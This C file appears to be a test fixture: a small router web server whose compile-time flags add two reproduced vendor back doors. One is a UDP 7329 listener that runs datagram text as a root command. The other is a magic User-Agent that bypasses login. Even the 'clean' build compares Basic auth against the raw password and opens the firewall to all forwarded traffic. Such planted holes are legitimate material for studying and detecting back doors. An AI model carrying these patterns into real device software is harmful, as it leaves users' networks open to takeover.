/*
 * routerhttpd.c - test program (never executed): a router's web interface
 * in the shape vendors ship it: HTTP on port 80, a login checked against
 * the administrator's password kept in NVRAM (stub libnvram, nvram.c), and
 * pages that apply settings by running commands - a "clear log" page that
 * empties /var/log/messages and a firewall page that rewrites iptables
 * rules. Those are its job. By -D, the historical back doors of router web
 * servers, written here from the public write-ups:
 *   -DMFG     Tenda W302R / Medialink (2013): a thread of the web server
 *             binds UDP 7329 (htons), and a datagram starting "w302r_mfg"
 *             (memcmp, 9 bytes) runs the rest as a root command
 *   -DXMLSET  D-Link DIR-100 family (2013, CVE-2013-6026): a request whose
 *             User-Agent is "xmlset_roodkcableoj28840ybtide" skips the login
 * Without either it is the clean counterpart.
 */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

char *nvram_get(const char *name);
int nvram_set(const char *name, const char *value);
int nvram_commit(void);

static void send_text(int c, const char *status, const char *body)
{
	dprintf(c, "HTTP/1.1 %s\r\nContent-Type: text/html\r\nContent-Length: %zu\r\n\r\n%s",
		status, strlen(body), body);
}

static int authorized(const char *req)
{
	const char *auth = strstr(req, "Authorization: Basic ");
	const char *pw = nvram_get("http_passwd");
#ifdef XMLSET
	const char *ua = strstr(req, "User-Agent: ");
	if (ua && strncmp(ua + 12, "xmlset_roodkcableoj28840ybtide", 30) == 0)
		return 1;
#endif
	return auth && pw && strncmp(auth + 21, pw, strlen(pw)) == 0;
}

static void apply(int c, const char *req)
{
	if (strstr(req, "GET /clear_log.cgi")) {
		(void)!system("cat /dev/null > /var/log/messages");
		send_text(c, "200 OK", "<p>Log cleared</p>");
	} else if (strstr(req, "POST /firewall.cgi")) {
		(void)!system("iptables -F FORWARD; iptables -A FORWARD -j ACCEPT");
		nvram_set("fw_enable", "1");
		nvram_commit();
		send_text(c, "200 OK", "<p>Settings saved</p>");
	} else {
		send_text(c, "404 Not Found", "<p>Not found</p>");
	}
}

#ifdef MFG
static void mfg_thread(void)
{
	struct sockaddr_in sa;
	char buf[512];
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(7329);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return;
	for (;;) {
		ssize_t n = recvfrom(s, buf, sizeof(buf) - 1, 0, NULL, NULL);
		if (n < 11)
			continue;
		buf[n] = 0;
		if (memcmp(buf, "w302r_mfg", 9) == 0 && buf[9] == 'x')
			(void)!system(buf + 11);
	}
}
#endif

int main(void)
{
	struct sockaddr_in sa;
	char req[2048];
	int s = socket(AF_INET, SOCK_STREAM, 0);
#ifdef MFG
	if (fork() == 0) {
		mfg_thread();
		_exit(0);
	}
#endif
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(80);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 16) < 0)
		return 1;
	for (;;) {
		int c = accept(s, 0, 0);
		ssize_t n;
		if (c < 0)
			continue;
		n = read(c, req, sizeof(req) - 1);
		req[n > 0 ? n : 0] = 0;
		if (!authorized(req))
			send_text(c, "401 Unauthorized",
				  "<p>WWW-Authenticate: Basic realm=\"router\"</p>");
		else
			apply(c, req);
		close(c);
	}
}
